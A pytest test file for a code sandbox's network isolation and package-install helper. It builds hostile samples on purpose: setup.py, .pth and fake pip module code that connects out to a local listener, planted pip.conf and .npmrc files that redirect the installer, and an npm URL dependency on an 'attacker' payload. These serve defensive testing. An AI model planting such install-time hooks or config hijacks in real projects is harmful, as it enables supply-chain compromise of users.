"""SANDBOX_NETWORK=none: the code has only its own loopback, yet install_package still works.

The installer runs with the network on the code's behalf, so nothing the code
controls may steer it: not files planted in the workspace (its working folder
and HOME), not a package name that is really a local file, not a package's
own build script. Every listener here is on the host's 127.0.0.1.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import socket
import tarfile
import zipfile
from collections.abc import AsyncIterator

import pytest

from ..conftest import StartServer
from ..helpers import LocalIndex, remote_index
from ..nethost import netns_host
from .conftest import client_for


class Listener:
    """A TCP and a UDP socket on the host's 127.0.0.1 that record whatever reaches them."""

    def __init__(self) -> None:
        self.connections: list[bytes] = []
        self.port = 0
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self._server: asyncio.Server | None = None

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            self.connections.append(await asyncio.wait_for(reader.read(200), 5))
        except (TimeoutError, ConnectionError):
            self.connections.append(b"")
        writer.close()

    def datagrams(self) -> list[bytes]:
        received = []
        while True:
            try:
                received.append(self.udp.recv(200))
            except BlockingIOError:
                return received

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)
        self.port = self._server.sockets[0].getsockname()[1]

    async def close(self) -> None:
        assert self._server is not None
        self._server.close()
        self.udp.close()


@pytest.fixture
async def listener() -> AsyncIterator[Listener]:
    running = Listener()
    await running.start()
    yield running
    await running.close()


REACH_OUT = """
import os, socket
port, udp_port = int(os.environ['PORT']), int(os.environ['UDP_PORT'])
report = {'interfaces': [name for _, name in socket.if_nameindex()]}
try:
    with socket.create_connection(('127.0.0.1', port), timeout=5) as s:
        s.sendall(b'reached the host')
    report['tcp'] = 'connected'
except OSError as exc:
    report['tcp'] = type(exc).__name__
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
    u.sendto(b'datagram', ('127.0.0.1', udp_port))
try:
    socket.getaddrinfo('pypi.org', 443)
    report['dns'] = 'resolved'
except OSError as exc:
    report['dns'] = type(exc).__name__
set_result(report)
"""


@pytest.mark.parametrize("network", ["none", "host"])
async def test_network_none_reaches_nothing_outside(
    start_server: StartServer, listener: Listener, network: str
) -> None:
    """With `none` only a private loopback exists: no TCP or UDP reaches the host, no DNS. `host` is the control."""
    server = await start_server(SANDBOX_NETWORK=network)
    env = {"PORT": str(listener.port), "UDP_PORT": str(listener.udp.getsockname()[1])}
    async with client_for(server) as client:
        outcome = await client.run(REACH_OUT, env=env, timeout=30)
    report = outcome.output
    assert report is not None, outcome.result.error
    if network == "none":
        assert report["interfaces"] == ["lo"]
        assert report["tcp"] == "ConnectionRefusedError"
        assert report["dns"] == "gaierror"
        assert listener.connections == []
        assert listener.datagrams() == []  # loopback delivery is synchronous: it would be here
    else:
        assert report["tcp"] == "connected"
        assert listener.datagrams() == [b"datagram"]


def wheel(name: str, source: str) -> tuple[str, bytes]:
    """A minimal pure-Python wheel holding module `name` (version 1.0)."""
    dist = f"{name}-1.0.dist-info"
    files = {
        f"{name}/__init__.py": source.encode(),
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: oasis-tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        record.append(f"{path},sha256={digest},{len(data)}")
    record.append(f"{dist}/RECORD,,")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, data in files.items():
            archive.writestr(path, data)
        archive.writestr(f"{dist}/RECORD", "\n".join(record) + "\n")
    return f"{name}-1.0-py3-none-any.whl", buffer.getvalue()


def sdist(name: str, setup_py: str) -> tuple[str, bytes]:
    """A source distribution whose setup.py is `setup_py`: installing it runs that code."""
    files = {
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n".encode(),
        "setup.py": setup_py.encode(),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, data in files.items():
            info = tarfile.TarInfo(f"{name}-1.0/{path}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return f"{name}-1.0.tar.gz", buffer.getvalue()


def index_files(*distributions: tuple[str, str, bytes]) -> dict[str, bytes]:
    """A PEP 503 simple index: /simple/<project>/ pages linking each (project, file name, data)."""
    files: dict[str, bytes] = {}
    for project, filename, data in distributions:
        page = f"/simple/{project}/"
        files[page] = files.get(page, b"") + f'<a href="{filename}">{filename}</a>\n'.encode()
        files[page + filename] = data
    return files


def phone_home(port: int, what: str) -> str:
    return f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'{what}')"


@pytest.mark.timeout(180)
async def test_install_package_works_without_network(start_server: StartServer) -> None:
    """Under `none` the code cannot reach the index itself, but install_package installs from it."""
    name, data = wheel("oasis_probe_pkg", "VALUE = 'installed'\n")
    async with remote_index(index_files(("oasis-probe-pkg", name, data))) as index:
        server = await start_server(
            SANDBOX_NETWORK="none", SANDBOX_PIP_INDEX_URL=f"{index.url}/simple"
        )
        code = f"""
import urllib.request
try:
    urllib.request.urlopen({index.url!r} + '/simple/', timeout=5)
    direct = 'reached'
except OSError as exc:
    direct = type(exc).__name__
install_package('oasis-probe-pkg')
import oasis_probe_pkg
set_result([direct, oasis_probe_pkg.VALUE])
"""
        async with client_for(server) as client:
            outcome = await client.run(code, session_id="offline", timeout=150)
    assert outcome.output == ["URLError", "installed"], outcome.result.error
    assert "/simple/oasis-probe-pkg/" in index.requests


@pytest.mark.timeout(180)
async def test_planted_files_cannot_steer_the_pip_installer(
    start_server: StartServer, listener: Listener
) -> None:
    """A pip/ package, a user-site .pth, pip.conf files and a local sdist planted in the workspace never run."""
    name, data = wheel("oasis_probe_pkg", "VALUE = 'from the configured index'\n")
    port = listener.port
    evil_name, evil_data = sdist("evil", f"{phone_home(port, 'sdist')}\n")
    async with remote_index(index_files(("oasis-probe-pkg", name, data))) as index:
        server = await start_server(
            SANDBOX_NETWORK="none", SANDBOX_PIP_INDEX_URL=f"{index.url}/simple"
        )
        code = f"""
import base64, os, sys
home = os.environ['HOME']
os.makedirs('pip', exist_ok=True)
open('pip/__init__.py', 'w').write('')
open('pip/__main__.py', 'w').write({phone_home(port, "cwd pip")!r})
site = os.path.join(home, '.local', 'lib', f'python{{sys.version_info[0]}}.{{sys.version_info[1]}}', 'site-packages')
os.makedirs(site, exist_ok=True)
open(os.path.join(site, 'evil.pth'), 'w').write({phone_home(port, "pth")!r} + '\\n')
for conf in ('.config/pip/pip.conf', '.pip/pip.conf', 'pip.conf'):
    os.makedirs(os.path.dirname(os.path.join(home, conf)) or '.', exist_ok=True)
    open(os.path.join(home, conf), 'w').write('[global]\\nindex-url = http://127.0.0.1:{port}/simple\\n')
open({evil_name!r}, 'wb').write(base64.b64decode({base64.b64encode(evil_data).decode()!r}))
install_package('oasis-probe-pkg')
import oasis_probe_pkg
try:
    install_package({evil_name!r})
    local = 'installed'
except RuntimeError as exc:
    local = str(exc)
set_result([oasis_probe_pkg.VALUE, local])
"""
        async with client_for(server) as client:
            outcome = await client.run(code, session_id="steer", timeout=150)
    report = outcome.output
    assert report is not None, outcome.result.error
    assert report[0] == "from the configured index"
    assert "is not a valid python package name" in report[1]
    assert listener.connections == []


@pytest.mark.timeout(180)
async def test_package_build_scripts_do_not_run_with_the_network(
    start_server: StartServer, listener: Listener
) -> None:
    """Under `none`, a package that only ships a source build (setup.py) is not built: its code would have the network."""
    name, data = sdist("oasis-sdist-pkg", f"{phone_home(listener.port, 'setup.py')}\n")
    async with remote_index(index_files(("oasis-sdist-pkg", name, data))) as index:
        server = await start_server(
            SANDBOX_NETWORK="none", SANDBOX_PIP_INDEX_URL=f"{index.url}/simple"
        )
        code = (
            "try:\n"
            "    install_package('oasis-sdist-pkg')\n"
            "    set_result('installed')\n"
            "except RuntimeError as exc:\n"
            "    set_result(str(exc))\n"
        )
        async with client_for(server) as client:
            outcome = await client.run(code, timeout=150)
    assert outcome.output != "installed"
    assert "oasis-sdist-pkg" in outcome.output
    assert "/simple/oasis-sdist-pkg/" in index.requests  # it asked, and saw only a source build
    assert listener.connections == []


@pytest.mark.timeout(180)
async def test_planted_npmrc_cannot_steer_the_npm_installer(
    start_server: StartServer, listener: Listener
) -> None:
    """A .npmrc planted in the npm prefix (the workspace's .oasis) does not route the installer anywhere."""
    async with remote_index() as registry:
        server = await start_server(SANDBOX_NETWORK="none", SANDBOX_NPM_REGISTRY=f"{registry.url}/")
        assert server.sandbox is not None
        if "node" not in server.sandbox.runtimes:
            pytest.skip("Node.js is not installed")
        code = f"""
const fs = require('fs');
fs.mkdirSync('.oasis', {{ recursive: true }});
const proxy = 'http://127.0.0.1:{listener.port}/';
fs.writeFileSync('.oasis/.npmrc', `proxy=${{proxy}}\\nhttps-proxy=${{proxy}}\\nfetch-retries=0\\n`);
fs.writeFileSync(`${{process.env.HOME}}/.npmrc`, `proxy=${{proxy}}\\nhttps-proxy=${{proxy}}\\n`);
try {{ await installPackage('left-pad'); }} catch (err) {{}}
setResult('done');
"""
        async with client_for(server) as client:
            outcome = await client.run(code, runtime="node", timeout=150)
    assert outcome.output == "done", outcome.result.error
    assert listener.connections == []


def npm_package(name: str, registry: str, dependencies: dict[str, str]) -> dict[str, bytes]:
    """A registry's files for one npm package at version 1.0.0 (metadata and tarball)."""
    manifest = {"name": name, "version": "1.0.0", "dependencies": dependencies}
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        data = json.dumps(manifest).encode()
        info = tarfile.TarInfo("package/package.json")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    tarball = f"/{name}/-/{name}-1.0.0.tgz"
    version = {**manifest, "dist": {"tarball": registry + tarball}}
    packument = {"name": name, "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    return {f"/{name}": json.dumps(packument).encode(), tarball: buffer.getvalue()}


@pytest.mark.timeout(180)
@pytest.mark.parametrize("network", ["none", "egress"])
async def test_npm_never_follows_url_dependencies(start_server: StartServer, network: str) -> None:
    """A registry package whose dependency is a URL (here on the registry's own host) is not fetched from it."""
    async with (
        netns_host() as host,
        LocalIndex(host=host) as attacker,
        LocalIndex(host=host) as registry,
    ):
        registry.files.update(
            npm_package("oasis-url-dep", registry.url, {"payload": f"{attacker.url}/payload.tgz"})
        )
        server = await start_server(
            SANDBOX_NETWORK=network, SANDBOX_NPM_REGISTRY=f"{registry.url}/"
        )
        assert server.sandbox is not None
        if "node" not in server.sandbox.runtimes:
            pytest.skip("Node.js is not installed")
        code = "try { await installPackage('oasis-url-dep'); setResult('installed'); } catch (err) { setResult(err.message); }"
        async with client_for(server) as client:
            outcome = await client.run(code, runtime="node", timeout=150)
    assert outcome.output is not None, outcome.result.error
    assert "/oasis-url-dep" in registry.requests  # the registry was asked
    assert attacker.requests == []


@pytest.mark.timeout(120)
async def test_an_index_on_host_loopback_is_refused_with_a_reason(
    start_server: StartServer,
) -> None:
    """Isolated installers cannot reach the host's loopback: the error says so instead of timing out."""
    async with LocalIndex() as index:
        server = await start_server(SANDBOX_PIP_INDEX_URL=f"{index.url}/simple")
        code = (
            "try:\n"
            "    install_package('oasis-probe-pkg')\n"
            "    set_result('installed')\n"
            "except RuntimeError as exc:\n"
            "    set_result(str(exc))\n"
        )
        async with client_for(server) as client:
            outcome = await client.run(code, timeout=100)
    assert "loopback" in outcome.output
    assert index.requests == []


BIND_TO_DEVICE = """
import socket
outcome = {}
for name, option, value in (('device', socket.SO_BINDTODEVICE, b'tap0'), ('ifindex', 62, (2).to_bytes(4, 'little'))):
    with socket.socket() as s:
        try:
            s.setsockopt(socket.SOL_SOCKET, option, value)
            outcome[name] = 'bound'
        except OSError as exc:
            outcome[name] = exc.strerror
with socket.socket() as s:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # other socket options still work
cgroup = open('/proc/self/cgroup').read().split()
set_result({'bind': outcome, 'cgroup': cgroup})
"""


async def test_sockets_cannot_be_tied_to_an_interface(start_server: StartServer) -> None:
    """SO_BINDTODEVICE would make the kernel skip the routes that close the host off; and the
    code's cgroup is its own root (no host cgroup paths)."""
    server = await start_server()
    async with client_for(server) as client:
        outcome = await client.run(BIND_TO_DEVICE, timeout=30)
    assert outcome.output is not None, outcome.result.error
    assert outcome.output["bind"] == {
        "device": "Operation not permitted",
        "ifindex": "Operation not permitted",
    }
    assert server.sandbox is not None
    if server.sandbox.info().resource_control != "rlimits":
        assert all(line.endswith(":/") for line in outcome.output["cgroup"]), outcome.output
